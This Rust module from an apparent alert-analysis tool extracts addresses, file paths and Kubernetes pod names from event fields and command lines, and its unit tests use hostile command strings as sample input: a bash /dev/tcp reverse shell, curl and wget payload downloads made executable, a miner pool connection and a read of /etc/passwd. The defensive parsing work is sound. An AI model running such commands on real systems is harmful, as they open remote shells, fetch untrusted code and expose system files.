//! What an alert touches: addresses, files, names of pods, read from its fields and its command line.

use super::scene::{Field, Scene, Sym};
use std::net::{IpAddr, Ipv4Addr};

/// The symbol of the remote address: `fd.rip`, else `fd.sip`. 0 when there is none.
pub fn remote(scene: &Scene, row: usize) -> Sym {
    match scene.get(row, Field::FdRip) {
        0 => scene.get(row, Field::FdSip),
        remote => remote,
    }
}

/// The own address of a connection, out of `fd.name` (`client:port->server:port`): the side that is not the remote one.
pub fn local(scene: &Scene, row: usize) -> Option<&str> {
    let remote = scene.word(remote(scene, row));
    let (client, server) = scene.text(row, Field::FdName).split_once("->")?;
    let (client, server) = (client.rsplit_once(':')?.0, server.rsplit_once(':')?.0);
    let local = match remote {
        "" => return None,
        _ if remote == server => client,
        _ if remote == client => server,
        _ => return None,
    };
    (!is_nobody(local) && local != remote).then_some(local)
}

/// The fields that may name the file or object an event was aimed at, the most telling first.
pub const TARGETS: [Field; 6] =
    [Field::ArgFilename, Field::ArgPath, Field::FdName, Field::ArgName, Field::ArgNewpath, Field::KaTarget];

/// The symbol of what an event was aimed at.
pub fn target(scene: &Scene, row: usize) -> Sym {
    TARGETS.into_iter().map(|field| scene.get(row, field)).find(|symbol| *symbol != 0).unwrap_or(0)
}

/// True for an address on the internet, or a host name that is not of a local zone; false for those of an operator's own
/// network.
pub fn is_public(address: &str) -> bool {
    match address.parse::<IpAddr>() {
        Ok(IpAddr::V4(v4)) => !(v4.is_private() || inside(v4)),
        Ok(IpAddr::V6(v6)) => {
            let first = v6.segments()[0];
            !(v6.is_loopback() || v6.is_unspecified() || first & 0xfe00 == 0xfc00 || first & 0xffc0 == 0xfe80)
        }
        Err(_) => address.contains('.') && !address.ends_with(".local") && !address.ends_with(".internal"),
    }
}

/// True for an address that says nothing about who is talked to: loopback, unspecified, link-local (which is where clouds
/// put their metadata service), multicast, broadcast.
pub fn is_nobody(address: &str) -> bool {
    match address.parse::<IpAddr>() {
        Ok(IpAddr::V4(v4)) => {
            v4.is_loopback() || v4.is_unspecified() || v4.is_link_local() || v4.is_multicast() || v4.is_broadcast()
        }
        Ok(IpAddr::V6(v6)) => v6.is_loopback() || v6.is_unspecified() || v6.is_multicast(),
        Err(_) => address == "localhost",
    }
}

fn inside(v4: Ipv4Addr) -> bool {
    let [a, b, ..] = v4.octets();
    v4.is_loopback() || v4.is_link_local() || v4.is_unspecified() || (a == 100 && (64..128).contains(&b))
}

/// How much of a command line is looked at, in bytes.
const LOOKED: usize = 4096;

/// The addresses and host names in a command line, each once: IPv4 addresses wherever they stand, host names behind
/// `://` or `@`, and `host.name:port`.
pub fn endpoints(command: &str) -> Vec<&str> {
    let command = head(command);
    let mut found: Vec<&str> = Vec::new();
    let mut add = |host: &'_ str, at: usize| {
        let host = &command[at..at + host.len()];
        if !is_nobody(host) && !found.contains(&host) {
            found.push(host);
        }
    };
    let mut at = 0;
    for word in command.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '-' | '@' | '_'))) {
        let start = at;
        at += word.len();
        at += command[at..].chars().next().map_or(0, char::len_utf8);
        let host_at = word.rfind('@').map_or(0, |at| at + 1);
        let rest = &word[host_at..];
        let host = rest.split(':').next().unwrap_or(rest).trim_end_matches('.');
        let port = rest.get(host.len()..).and_then(|rest| rest.strip_prefix(':'));
        let number = port.is_some_and(|port| !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit()));
        let before = &command[..start];
        let addressed = before.ends_with("://") || host_at > 0 || number;
        if host.parse::<Ipv4Addr>().is_ok() || (addressed && is_host_name(host)) {
            add(host, start + host_at);
        }
    }
    found
}

/// A name of at least two labels whose last has letters only: `pool.example.org`, not `main.7`.
fn is_host_name(host: &str) -> bool {
    let last = host.rsplit('.').next().unwrap_or_default();
    host.contains('.')
        && !host.starts_with(['.', '-'])
        && last.len() >= 2
        && last.bytes().all(|byte| byte.is_ascii_alphabetic())
        && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'.' || byte == b'-')
}

/// The absolute paths in a command line, each once.
pub fn paths(command: &str) -> Vec<&str> {
    let mut found: Vec<&str> = Vec::new();
    for word in head(command).split(|c: char| c.is_whitespace() || "'\"`;|&<>()=,".contains(c)) {
        if word.len() > 2 && word.starts_with('/') && !word.starts_with("//") && !found.contains(&word) {
            found.push(word);
        }
    }
    found
}

/// The words of a command line that could be names of Kubernetes objects: small letters, digits and hyphens, with a
/// hyphen in them. A `pod/` in front is taken off.
pub fn object_names(command: &str) -> impl Iterator<Item = &str> {
    head(command).split(|c: char| c.is_whitespace() || "/'\"=:,".contains(c)).filter(|word| {
        word.len() > 3
            && word.contains('-')
            && !word.starts_with('-')
            && word
                .bytes()
                .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-' || byte == b'.')
    })
}

fn head(text: &str) -> &str {
    if text.len() <= LOOKED {
        return text;
    }
    let end = (0..=LOOKED).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    &text[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(command: &str, hosts: &[&str]) {
        assert_eq!(endpoints(command), hosts, "{command}");
    }

    #[test]
    fn addresses_are_found_in_commands() {
        check("curl -s http://198.51.100.7/x.sh", &["198.51.100.7"]);
        check("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4443 0>&1'", &["198.51.100.7"]);
        check("miner -o stratum+tcp://pool.example.org:3333 -u x", &["pool.example.org"]);
        check("ssh root@db.example.net", &["db.example.net"]);
        check("nc 127.0.0.1 80", &[]);
        check("./x -c 198.51.100.7:443 198.51.100.7", &["198.51.100.7"]);
        check("node main.js --v=1.2.3", &[]);
        check("curl http://169.254.169.254/latest", &[]);
        check("größe ü://ä.example", &[]);
    }

    #[test]
    fn paths_are_found_in_commands() {
        assert_eq!(paths("sh -c wget -qO /tmp/.a http://x/a;chmod +x /tmp/.a"), ["/tmp/.a"]);
        assert_eq!(paths("cat '/etc/passwd' >/tmp/p"), ["/etc/passwd", "/tmp/p"]);
    }

    #[test]
    fn names_of_objects_are_found_in_commands() {
        let found: Vec<&str> = object_names("kubectl -n kube-system exec web-7d9-x2k1 -- sh").collect();
        assert_eq!(found, ["kube-system", "web-7d9-x2k1"]);
    }

    #[test]
    fn own_networks_are_told_from_the_internet() {
        for own in ["10.1.2.3", "192.168.0.1", "172.20.0.1", "127.0.0.1", "169.254.169.254", "100.64.0.1", "fd00::1"] {
            assert!(!is_public(own), "{own}");
        }
        for other in ["8.8.8.8", "192.0.2.7", "2001:db8::1", "pool.example.org"] {
            assert!(is_public(other), "{other}");
        }
    }
}
